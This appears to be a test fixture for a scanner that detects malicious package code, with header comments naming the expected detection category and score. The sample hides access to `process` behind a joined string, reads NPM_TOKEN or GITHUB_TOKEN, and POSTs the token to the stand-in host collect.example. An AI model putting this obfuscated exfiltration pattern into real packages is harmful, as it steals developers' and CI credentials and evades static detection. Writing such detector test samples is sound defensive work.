// expect: category=process-access min=90 context=plugin,package
// why: the global comes from a conditional and `process` from a joined name; the token is sent.
const g = typeof window === 'undefined' ? global : window;
const p = g[['pro', 'cess'].join('')];

const token = p.env.NPM_TOKEN || p.env.GITHUB_TOKEN || '';

export function sync() {
  return g.fetch('https://collect.example/t', { method: 'POST', body: token });
}
